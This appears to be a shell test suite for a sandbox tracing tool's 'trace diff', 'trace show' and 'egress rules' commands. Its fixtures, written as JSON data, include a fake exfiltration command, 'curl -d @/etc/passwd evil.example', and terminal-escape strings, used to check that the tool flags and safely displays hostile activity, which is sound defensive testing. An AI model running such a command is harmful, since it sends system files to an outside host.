#!/bin/sh
# cupel egress and cupel trace: they read results of runs, also hostile ones.
. "$SRC/tests/cli/lib.sh"

# result NAME EVENTS EGRESS [COVERAGE] -- make a result with these
result() {
	cat >"$work/$1" <<-END
		{"version":"1.0","status":"OK","enforced":{"trace":{"requested":true,
		"applied":true,"details":{"exec":true,"connect":true}}},
		"egress":[$3],"egress_omitted":0,"trace":{"events":[$2],
		"events_omitted":0,"lost":0,${4:-"\"coverage_ok\":true,\"coverage\":[]"}}}
	END
}

exec_event() { # PID PPID PATH ARGV-JSON [RESULT]
	printf '{"t_ms":1,"pid":%s,"ppid":%s,"kind":"exec","path":"%s","argv":%s,"argv_cut":false,"interpreter":null,"sealed":false,"result":%s,"repeats":0,"verified":true}' \
		"$1" "$2" "$3" "$4" "${5:-0}"
}

connect_event() { # PID HOST ADDRESS PORT VERDICT
	printf '{"t_ms":1,"pid":%s,"kind":"connect","family":"inet","type":"stream","address":"%s","host":%s,"port":%s,"path":null,"verdict":"%s","result":0,"attributed":true,"verified":true}' \
		"$1" "$3" "$2" "$4" "$5"
}

reached() { # HOST-JSON ADDRESS-JSON PORT VERDICT REASON
	printf '{"host":%s,"address":%s,"port":%s,"protocol":"tcp","verdict":"%s","reason":%s,"connections":1,"bytes_in":1,"bytes_out":1,"first_ms":1}' \
		"$1" "$2" "$3" "$4" "$5"
}

npm=$(exec_event 2 1 /usr/bin/npm '["npm","test"]')
sh=$(exec_event 3 2 /usr/bin/dash '["sh","-c","jest"]')
node=$(exec_event 3 2 /usr/bin/node '["node","/repo/jest.js"]')
tmp=$(exec_event 5 3 /tmp/tmpabcdef/run '["run"]')
local=$(connect_event 3 null 127.0.0.1 40000 allowed)
registry=$(connect_event 2 '"registry.example"' 198.18.1.1 443 allowed)
result base "$npm,$sh,$node,$tmp,$local,$registry" \
	"$(reached '"registry.example"' '"203.0.113.1"' 443 allowed null)"

tmp2=$(exec_event 9 3 /tmp/tmpzyxwvu/run '["run"]')
local2=$(connect_event 3 null 127.0.0.1 50000 allowed)
result same "$npm,$sh,$node,$tmp2,$local2,$registry" \
	"$(reached '"registry.example"' '"203.0.113.9"' 443 allowed null)"
got=$("$cupel" trace diff "$work/base" "$work/same")
[ $? = 0 ] && [ "$got" = 'nothing new' ]
ok 'other temporary names, ports of its own and answers are nothing new'

curl=$(exec_event 7 6 /usr/bin/curl '["curl","-d","@/etc/passwd","evil.example"]')
dash=$(exec_event 6 3 /usr/bin/dash '["sh","-c","curl evil.example"]')
evil=$(connect_event 7 '"evil.example"' 198.18.1.2 443 refused)
result new "$npm,$sh,$node,$tmp,$dash,$curl,$local,$registry,$evil" \
	"$(reached '"other.example"' null null refused '"no_rule"')"
got=$("$cupel" trace diff "$work/base" "$work/new")
status=$?
[ "$status" = 1 ] && [ "$got" = "new executables:
  /usr/bin/curl -d @/etc/passwd evil.example
new shells:
  /usr/bin/dash -c 'curl evil.example'
new endpoints:
  -> (refused) evil.example:443
  -> (refused) other.example" ]
ok 'a diff names the program, the shell and the hosts'
[ "$status" = 1 ] || echo "# $got"
"$cupel" trace diff --json "$work/base" "$work/new" >"$work/json"
[ $? = 1 ] && python3 - "$work/json" <<'END'
import json, sys
d = json.load(open(sys.argv[1]))
assert [x["path"] for x in d["new_executables"]] == ["/usr/bin/curl"]
assert d["new_shells"][0]["argv"] == ["sh", "-c", "curl evil.example"]
assert [x["host"] for x in d["new_endpoints"]] == ["evil.example", "other.example"]
assert d["complete"] is True and d["missing"] == []
END
ok 'and as JSON'
"$cupel" schema trace-diff >"$work/schema" &&
	"$cupel" validate --schema "$work/schema" "$work/json" >/dev/null
ok 'which is as its schema has it'
"$cupel" trace diff "$work/new" "$work/base" >/dev/null
ok 'what is gone is nothing new'

fails=$(exec_event 4 2 /usr/local/bin/curl '["curl"]' 2)
result fails "$npm,$sh,$node,$tmp,$fails,$local,$registry" ""
"$cupel" trace diff "$work/base" "$work/fails" >/dev/null
ok 'a try that failed has executed nothing'

beside=$(exec_event 5 3 /tmp/evil '["evil"]')
result beside "$npm,$sh,$node,$beside,$local,$registry" ""
"$cupel" trace diff "$work/base" "$work/beside" | grep -q '^  /tmp/evil$'
ok 'a program beside a temporary one is new'

gap='"coverage_ok":false,"coverage":[{"cause":"limit","count":3}]'
result gap "$npm,$sh,$node,$tmp,$local,$registry" "" "$gap"
got=$("$cupel" trace diff "$work/base" "$work/gap")
[ $? = 1 ] && [ "$got" = "NEW: events may be missing, limit 3
nothing new was seen, but what was not recorded may be new" ]
ok 'with events missing, nothing is not claimed'
"$cupel" trace diff "$work/gap" "$work/base" | grep -q '^BASE: events may be'
ok 'nor with events of the base missing'
sed 's/"connect":true}/"connect":false}/' "$work/base" >"$work/half"
got=$("$cupel" trace diff "$work/half" "$work/half")
[ $? = 1 ] && echo "$got" | grep -q '^NEW: connect was not traced$'
ok 'nor when half of it was not traced'

cut=$(echo "$sh" | sed 's/"argv_cut":false/"argv_cut":true/')
result cut "$npm,$cut,$node,$tmp,$local,$registry" ""
got=$("$cupel" trace diff "$work/cut" "$work/cut")
[ $? = 1 ] && echo "$got" |
	grep -qx 'NEW: 1 shell had more words than are recorded'
ok 'nor of a shell of which not all words are known'
echo "$got" | grep -qx 'BASE: 1 shell had more words than are recorded; record it again' &&
	echo "$got" | grep -q 'dash -c jest'
ok 'which counts as new, also if the base looks alike'
one=$(echo "$cut" | sed "s/\"argv_cut\":true/&,\"argv_digest\":\"blake3:$(printf '%064d' 1)\"/")
result one "$npm,$one,$node,$tmp,$local,$registry" ""
result two "$npm,$(echo "$one" | sed 's/1","path/1","path/; s/blake3:0/blake3:1/'),$node,$tmp,$local,$registry" ""
"$cupel" trace diff "$work/one" "$work/one"
ok 'a digest of all words says that they are the same'
"$cupel" trace diff "$work/one" "$work/two" | grep -q 'dash -c jest'
ok 'or others, behind the same beginning'
"$cupel" trace diff "$work/cut" "$work/base" | grep -q 'dash -c jest$'
ok 'which is another one than that with the words that are'
lines=$(exec_event 3 2 /usr/bin/dash '["sh","-c","a\nb"]')
words=$(exec_event 3 2 /usr/bin/dash '["sh","-c","a","b"]')
result lines "$lines" ""
result words "$words" ""
"$cupel" trace diff "$work/lines" "$work/words" | grep -q 'dash -c a b$'
ok 'and a word of two lines is not two words'
claim=$(echo "$npm" | sed 's/"verified":true/"verified":false/')
result claim "$claim,$sh,$node,$tmp,$local,$registry" ""
got=$("$cupel" trace diff "$work/base" "$work/claim")
[ $? = 1 ] && echo "$got" |
	grep -qx 'NEW: 1 program is known only from what a process said'
ok 'nor of a program that only a claim tells'

got=$("$cupel" trace show "$work/new")
[ "$got" = "/usr/bin/npm test
  /usr/bin/dash -c jest
  /usr/bin/node /repo/jest.js
    /tmp/tmpabcdef/run
    /usr/bin/dash -c 'curl evil.example'
      /usr/bin/curl -d @/etc/passwd evil.example
        -> (refused) evil.example:443
    -> 127.0.0.1:40000
  -> registry.example:443" ]
ok 'a trace is a tree of processes'
[ "$got" != "" ] && "$cupel" trace show <"$work/new" | cmp -s - - </dev/null || :
"$cupel" trace show - <"$work/gap" | tail -1 | grep -q 'events may be missing: limit, 3'
ok 'which says what may be missing, and reads stdin'

long=$(printf '%0300d' 0)
wide='\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587\u6587'
chain=
for i in $(seq 2 40); do
	chain="$chain$(exec_event "$i" $((i - 1)) "/a/$long" "[\"x\",\"$wide\"]"),"
done
nasty=$(exec_event 50 1 '/\u001b[31m\u202e\n\u0007x' '["x","\u001b]0;t\u0007"]')
result hostile "$chain$nasty" "$(reached '"a\u001b[0m.example"' null 443 allowed null)"
"$cupel" trace show "$work/hostile" >"$work/shown"
awk 'length($0) > 80 { bad = 1 } END { exit bad }' "$work/shown" &&
	! LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$work/shown" &&
	! grep -q "$(printf '\342\200\256')" "$work/shown"
ok 'no line is wider than 80 columns, nothing moves the cursor'
[ "$(wc -l <"$work/shown")" = 40 ]
ok 'and each event is one line'

result many "" "$(reached '"b.example"' null 8001 allowed null),$(
	reached '"b.example"' null 8000 allowed null),$(
	reached '"a.example"' null 443 allowed null),$(
	reached '"no.example"' null 443 refused '"no_rule"'),$(
	reached '"down.example"' null 443 allowed '"connect_failed"'),$(
	reached null '"203.0.113.7"' 22 allowed null),$(
	reached null '"2001:db8::7"' 22 allowed null)"
got=$("$cupel" egress rules "$work/many" "$work/base" "$work/many")
[ "$got" = 'a.example:443
b.example:8000-8001
registry.example:443
203.0.113.7/32:22
[2001:db8::7]/128:22' ]
ok 'rules are the shortest list for what was reached'
set --
for rule in $got; do set -- "$@" --egress "$rule"; done
"$cupel" plan --network scoped "$@" -- true >/dev/null
ok 'and are what --egress takes'
got=$("$cupel" egress rules "$work/hostile" 2>&1)
[ "$got" = 'cupel: egress rules: entries left out: 1 (they name no host for a rule)' ]
ok 'a host that is none makes no rule'

one_line 2 'is not a result' -- egress rules /etc/passwd
ok 'a file that is no result is refused'
echo '{"status":"OK"}' >"$work/plain"
one_line 2 "the run's network was not scoped" -- \
	egress rules "$work/plain"
ok 'so is a run without egress'
one_line 2 'the run was not traced' -- trace show "$work/plain"
ok 'and one without a trace'
echo '{"status":"OK","trace":{"events":[{"kind":"exec"}]}}' >"$work/odd"
one_line 2 'is not a result: /trace' -- trace show "$work/odd"
ok 'and one whose trace is not as the schema has it'
echo '{"status":"OK","trace":null,"egress":[{"kind":"exec","argv":[7]}]}' \
	>"$work/odd"
one_line 2 'is not a result: /egress/0' -- egress rules "$work/odd"
ok 'or whose egress is not'
sed 's/"protocol":"tcp"/"kind":"exec","argv":[7,{}],"path":9,"protocol":"tcp"/' \
	"$work/new" >"$work/typed"
"$cupel" trace diff "$work/base" "$work/typed" | grep -qx '  -> (refused) other.example'
ok 'what a file adds to an entry is not believed'
one_line 2 'expected RESULT' -- egress rules
ok 'egress rules needs a file'
one_line 2 'expected BASE and NEW' -- trace diff "$work/base"
ok 'trace diff needs two'
one_line 2 'unknown option' -- trace show --json "$work/base"
ok 'an unknown option is named'
one_line 2 "expected show [RESULT] or diff" -- trace list
ok 'so is an unknown word'
"$cupel" trace --help | grep -q 'show \[RESULT\] | diff' &&
	"$cupel" egress rules --help | grep -q 'rules RESULT'
ok 'help is there'
finish
